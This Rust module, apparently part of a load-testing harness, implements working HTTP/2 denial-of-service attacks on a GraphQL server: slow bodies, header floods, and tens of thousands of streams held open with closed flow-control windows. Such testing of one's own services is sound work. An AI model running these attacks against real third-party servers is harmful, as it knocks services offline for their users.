//! Streams of one connection of HTTP/2, of callers whom nobody knows.

use std::collections::HashMap;
use std::io;
use std::thread;
use std::time::{Duration, Instant};

use crate::Outcome;
use crate::h2::block;
use crate::h2::connection::{Connection, Event};
use crate::h2::frames::{DATA, END_HEADERS, END_STREAM, HEADERS, frame};
use crate::scene::Scene;

/// What a client grants the server on each stream, where it takes answers.
const GRANTED: u32 = 1 << 20;
/// How long a client waits before it connects again.
const AGAIN: Duration = Duration::from_millis(500);
/// How often each stream sends, and how much.
const TURN: Duration = Duration::from_millis(250);
const PIECE_BYTES: i64 = 4_096;
/// Streams that are opened in one turn.
const OPENED_AT_ONCE: usize = 250;
/// Small headers of a flood.
const FLOOD_HEADERS: usize = 90;
/// The largest identifier of a stream.
const LAST_STREAM: u32 = 0x7fff_fff0;

/// What the streams do.
pub(crate) struct Plan {
    /// How many are kept open.
    pub(crate) streams: usize,
    /// Whether each sends a body slowly, or asks for an answer that the client never takes.
    pub(crate) body: Body,
    pub(crate) more_headers: usize,
}

#[derive(Clone, Copy, PartialEq, Eq)]
pub(crate) enum Body {
    /// Sent piece by piece.
    Slow,
    /// None: the answer is asked for, and the window for it is closed.
    NoneTaken,
}

/// Bodies that are sent slowly.
pub(crate) fn slow(scene: &Scene<'_>) -> Outcome<()> {
    let plan = Plan {
        streams: 1_000,
        body: Body::Slow,
        more_headers: 0,
    };
    run(scene, &plan)
}

/// The same with many small headers.
pub(crate) fn header_flood(scene: &Scene<'_>) -> Outcome<()> {
    let plan = Plan {
        streams: 1_000,
        body: Body::Slow,
        more_headers: FLOOD_HEADERS,
    };
    run(scene, &plan)
}

/// Answers that are asked for without end and never taken.
pub(crate) fn closed_window(scene: &Scene<'_>) -> Outcome<()> {
    let plan = Plan {
        streams: 50_000,
        body: Body::NoneTaken,
        more_headers: 0,
    };
    run(scene, &plan)
}

fn run(scene: &Scene<'_>, plan: &Plan) -> Outcome<()> {
    while scene.goes_on() {
        if let Err(error) = connect(scene, plan)
            && scene.goes_on()
        {
            scene.tally.count(&format!("connection ended ({error})"));
        }
        thread::sleep(AGAIN);
    }
    Ok(())
}

fn connect(scene: &Scene<'_>, plan: &Plan) -> Outcome<()> {
    let certificate = scene.certificate.ok_or("this attack needs TLS")?;
    let granted = match plan.body {
        Body::Slow => GRANTED,
        Body::NoneTaken => 0,
    };
    let mut client = Client {
        connection: Connection::open(scene.address(), certificate, granted)?,
        open: HashMap::new(),
        next: 1,
        plan,
        headers: headers(plan),
    };
    let ended = client.run(scene);
    if !scene.goes_on() {
        scene.tally.add("still open", client.open.len());
    }
    ended
}

fn headers(plan: &Plan) -> Vec<u8> {
    let (method, path) = match plan.body {
        Body::Slow => ("POST", "/graphql"),
        Body::NoneTaken => ("GET", "/graphql/schema.graphql"),
    };
    let key = "sl_live_0123456789012345678901234567890123456789012345678";
    let mut headers = vec![
        (":method", method),
        (":scheme", "https"),
        (":path", path),
        (":authority", "localhost"),
        ("x-api-key", key),
        ("authorization", "Bearer slat_0123456789"),
        ("content-type", "application/json"),
    ];
    let names: Vec<_> = (0..plan.more_headers)
        .map(|number| format!("x-{number}"))
        .collect();
    headers.extend(names.iter().map(|name| (name.as_str(), "1")));
    block(&headers)
}

/// A connection with what may be sent on each of its open streams.
struct Client<'a> {
    connection: Connection,
    open: HashMap<u32, i64>,
    next: u32,
    plan: &'a Plan,
    headers: Vec<u8>,
}

impl Client<'_> {
    fn run(&mut self, scene: &Scene<'_>) -> Outcome<()> {
        while scene.goes_on() {
            let begun = Instant::now();
            self.open_streams()?;
            self.send_pieces()?;
            while begun.elapsed() < TURN {
                self.take(scene)?;
            }
        }
        Ok(())
    }

    fn open_streams(&mut self) -> io::Result<()> {
        let missing = self.plan.streams.saturating_sub(self.open.len());
        let flags = match self.plan.body {
            Body::Slow => END_HEADERS,
            Body::NoneTaken => END_HEADERS | END_STREAM,
        };
        let mut frames = Vec::new();
        for _ in 0..missing.min(OPENED_AT_ONCE) {
            if self.next >= LAST_STREAM {
                return Err(io::Error::other("no stream is left"));
            }
            frames.extend(frame(HEADERS, flags, self.next, &self.headers));
            self.open.insert(self.next, self.connection.stream_window);
            self.next += 2;
        }
        self.connection.send(&frames)
    }

    fn send_pieces(&mut self) -> io::Result<()> {
        if self.plan.body == Body::NoneTaken {
            return Ok(());
        }
        let mut frames = Vec::new();
        for (stream, window) in &mut self.open {
            let piece = PIECE_BYTES.min(*window).min(self.connection.window);
            let Ok(bytes @ 1..) = usize::try_from(piece) else {
                continue;
            };
            frames.extend(frame(DATA, 0, *stream, &vec![b' '; bytes]));
            *window -= piece;
            self.connection.window -= piece;
        }
        self.connection.send(&frames)
    }

    /// Counts what the server did.
    fn take(&mut self, scene: &Scene<'_>) -> Outcome<()> {
        for event in self.connection.poll()? {
            match event {
                Event::Answered { stream, status } => {
                    scene.tally.count(&status.to_string());
                    // Of an answer that is not taken the stream stays open.
                    if self.plan.body == Body::Slow {
                        self.open.remove(&stream);
                    }
                }
                Event::Reset { stream, code } => {
                    scene.tally.count(&format!("stream reset (code {code})"));
                    self.open.remove(&stream);
                }
                Event::Granted { stream, bytes } => {
                    if let Some(window) = self.open.get_mut(&stream) {
                        *window += bytes;
                    }
                }
                Event::GoAway(code) => return Err(format!("goodbye, code {code}").into()),
            }
        }
        Ok(())
    }
}
